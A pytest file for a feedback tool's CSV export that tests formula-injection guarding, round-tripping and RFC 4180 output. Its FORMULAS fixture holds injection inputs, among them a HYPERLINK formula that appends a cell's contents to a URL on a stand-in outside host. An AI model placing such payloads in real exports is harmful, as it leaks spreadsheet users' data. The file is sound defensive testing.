"""CSV for spreadsheets: no cell becomes a formula, numbers stay numbers, our import undoes it."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from backflip.data.sources import read
from backflip.data.tables import guarded, unguarded
from backflip.feedback.exchange.exports import export, offered
from backflip.feedback.exchange.imports import Wishes, take_in
from backflip.feedback.exchange.sheet import LONGEST, Sheet
from backflip.feedback.projects.project import Project
from backflip.feedback.projects.store import Store
from tests.feedback.answered import answer_all, project_of
from tests.feedback.kinds import PROJECTS

FORMULAS = (
    '=HYPERLINK("http://x.org/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1",
    "\ufeff=1", "-5", "'=1", "''@x", "\n=1",
)  # fmt: skip
PLAIN = ("x=1", "", "'tis", "a\r\nb", 'say "no"', "1;2,3", "5", "µ – 😀", "'", "a\n=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_as_a_formula_does_is_kept_from_being_one(text: str):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_the_guard_comes_off_again(text: str):
    assert unguarded(guarded(text)) == text
    assert text in FORMULAS or guarded(text) == text


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_numbers_stay_numbers_and_nested_values_are_json(tmp_path: Path):
    sheet, path = Sheet(), tmp_path / "x.csv"
    row = {"n": -1.5, "i": -3, "t": "-3", "b": False, "none": None, "l": [1, {"=": "=1"}]}
    assert sheet.write(path, iter([row])) == 1
    assert cells(path)[1] == ["-1.5", "-3", "'-3", "false", "", '[1, {"=": "=1"}]']
    nested, apostrophe = sheet.lines()
    assert "JSON in l" in nested
    assert "1 cell has an apostrophe" in apostrophe


def test_excel_knows_the_letters_and_every_line_ends_as_rfc_4180_says(tmp_path: Path):
    path = tmp_path / "x.csv"
    Sheet().write(path, iter([{"a": "ä, \n b", "c": 'q"'}]))
    assert path.read_bytes() == '\ufeffa,c\r\n"ä, \n b","q"""\r\n'.encode()


def test_a_cell_that_spreadsheets_cut_is_said_and_whole(tmp_path: Path):
    sheet, path = Sheet(), tmp_path / "x.csv"
    sheet.write(path, iter([{"a": "x" * (LONGEST + 1)}]))
    assert "1 cell is longer than the 32,767 letters" in sheet.lines()[0]
    assert len(cells(path)[1][0]) == LONGEST + 1


def nasty(store: Store) -> Project:
    """Comparisons and answers full of what spreadsheets run."""
    items = [
        {
            "prompt": [{"role": "user", "content": text}],
            "answers": [{"text": text, "source": text[:20]}, {"text": f"no {text}"}],
        }
        for text in (*FORMULAS, "a\r\nb", 'say "no"', "1;2,3")
    ]
    project, people = project_of(store, "compare", items, raters=2)
    answer_all(project, people, lambda n, _: {"choice": "ab"[n % 2], "reason": "=1+1"})
    return project


def test_our_own_answers_come_back_from_a_table_as_they_were(kept: Store, tmp_path: Path):
    project = nasty(kept)
    export(project, "answers", tmp_path / "a.csv")
    again = kept.create("again", {"kind": "compare", "gold_share": 0.0})
    done = take_in(again, str(tmp_path / "a.csv"), Wishes())
    assert (done.left_out.total, done.answers) == (0, sum(1 for _ in project.answers()))

    def told(one: Project) -> list[Any]:
        payloads = {row.id: row.payload for row in one.items(limit=100)}
        rows = [
            (payloads[a.item], a.value, a.at, a.seconds, a.surplus, a.repeat_of)
            for a in one.answers()
        ]
        return sorted(rows, key=str)

    assert told(again) == told(project)


def test_text_columns_of_our_tables_lose_the_guard_and_foreign_ones_keep_theirs(tmp_path: Path):
    ours, theirs = tmp_path / "ours.csv", tmp_path / "theirs.csv"
    row = {"chosen": "=1", "rejected": "-x", "raters": ["Ada"], "provenance": {"project": "p"}}
    Sheet().write(ours, iter([row]))
    (found,) = [dict(one.fields) for one in read(str(ours))]
    assert found == row
    theirs.write_text("chosen,rejected\n'=1,'-ish is a suffix\n")
    (found,) = [dict(one.fields) for one in read(str(theirs))]
    assert found == {"chosen": "'=1", "rejected": "'-ish is a suffix"}


@pytest.mark.parametrize("kind", PROJECTS)
def test_no_cell_of_any_export_of_any_kind_is_a_formula(
    kind: str, known: Callable[[str], Project], tmp_path: Path
):
    """Tables of every format: as many cells in each line, and none that a spreadsheet runs."""
    project = known(kind)
    for made in offered(kind):
        if made.listed or made.name == "hh":
            continue
        path = tmp_path / f"{made.name}.csv"
        written = export(project, made.name, path)
        head, *rows = cells(path)
        assert len(rows) == written.rows > 0, made.name
        for row in rows:
            assert len(row) == len(head), made.name
            for cell in row:
                number = cell.lstrip("-").replace(".", "", 1).replace("e-", "").isdigit()
                assert number or not cell.startswith(tuple("=+-@\t\r")), (made.name, cell)


def test_raters_leave_one_row_each_with_the_statistics_pages_numbers(kept: Store, tmp_path: Path):
    project, people = project_of(
        kept, "compare", [{"prompt": [{"role": "user", "content": f"q{n}"}],
                           "answers": [{"text": "a"}, {"text": f"b{n}"}]} for n in range(12)],
    )  # fmt: skip
    answer_all(project, people, lambda n, _: {"choice": "b" if n == 2 else "a"})
    export(project, "raters", tmp_path / "r.csv")
    rows = [dict(one.fields) for one in read(str(tmp_path / "r.csv"))]
    assert len(rows) == 3
    assert {row["judgements"] for row in rows} == {"12"}
    shares = sorted(float(row["agrees_with_others"]) for row in rows)
    assert shares == pytest.approx([0.0, 0.5, 0.5])  # the third agrees with nobody
